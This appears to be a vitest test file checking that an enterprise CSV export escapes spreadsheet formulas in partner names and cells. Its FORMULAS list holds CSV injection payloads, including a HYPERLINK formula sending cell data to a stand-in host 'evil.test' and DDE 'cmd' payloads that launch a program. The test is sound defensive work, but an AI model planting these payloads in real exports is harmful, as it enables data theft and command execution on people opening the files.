// The enterprise CSV export escapes cells a spreadsheet would run as formulas: names in the dataset
// are typed by editors (the data desk, imports), so a partner named =HYPERLINK(...) stays text.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { NOW, world } from '../../../core/intelligence/engine/test-world';
import { Universe } from '../../../core/intelligence/engine/universe';
import { exportSections } from '../../../core/widgets/exports';
import { encodeExport } from './files';

const FORMULAS = [
  '=HYPERLINK("http://evil.test/?x="&A1,"Open")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];

describe('enterprise CSV export', () => {
  it('writes every formula-like name as text with a leading apostrophe', async () => {
    const input = world();
    // Partner names as an editor might have typed them, one per team Nike has a deal with.
    const renamed = new Map([
      ['chelsea', FORMULAS[0]!],
      ['mu', FORMULAS[1]!],
      ['psg', FORMULAS[2]!],
    ]);
    input.properties = input.properties.map((p) => ({ ...p, name: renamed.get(p.id) ?? p.name }));
    const profile = new Universe(input, NOW).brandProfile('nike')!;
    const sections = exportSections(profile, ['overview', 'partnerships'], {
      from: new Date('1980-01-01T00:00:00Z'),
      to: NOW,
    });
    const meta = {
      title: FORMULAS[3]!,
      brand: 'Nike',
      from: '1980-01-01',
      to: '2026-11-23',
      generatedAt: NOW,
      notice: FORMULAS[4]!,
    };
    const csv = (await encodeExport('csv', sections, meta)).toString('utf8');
    const cells = (parse(csv, { relax_column_count: true }) as string[][]).flat();

    for (const name of renamed.values()) {
      expect(cells, name).toContain(`'${name}`);
      expect(cells, name).not.toContain(name);
    }
    // The title and notice lines start with "# ", so they are not formulas and stay as they are.
    expect(cells).toContain(`# ${FORMULAS[3]}`);
    // No cell of the file starts a formula, whatever its section.
    for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    // Numbers stay numbers: a negative figure is not turned into text.
    const numeric = sections.flatMap((s) => s.rows.flat()).filter((c): c is number => typeof c === 'number');
    expect(numeric.length).toBeGreaterThan(0);
    for (const n of numeric) expect(cells).toContain(String(n));
  });

  it('escapes a formula in the first cell of a row (the title of a section or a table row)', async () => {
    const csv = (
      await encodeExport(
        'csv',
        [
          {
            category: 'overview',
            title: 'Overview',
            rows: [
              ['Metric', 'Value'],
              [FORMULAS[5]!, -4],
            ],
          },
        ],
        {
          title: 'Export',
          brand: 'Nike',
          from: '2026-01-01',
          to: '2026-11-23',
          generatedAt: NOW,
          notice: 'Notice.',
        },
      )
    ).toString('utf8');
    expect(csv).toContain(`"'\r=1+1",-4\n`);
  });
});
